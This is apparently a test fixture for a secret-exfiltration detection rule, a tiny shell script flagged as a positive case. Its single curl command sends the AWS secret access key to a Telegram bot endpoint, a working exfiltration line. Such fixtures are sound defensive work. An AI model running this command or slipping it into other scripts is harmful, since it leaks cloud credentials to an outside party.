#!/bin/sh
# ruleid: yara.exfiltration.secret_to_exfil_channel
curl -s "https://api.telegram.org/bot123456:ABCDEF/sendMessage" -d chat_id=42 -d text="$AWS_SECRET_ACCESS_KEY"
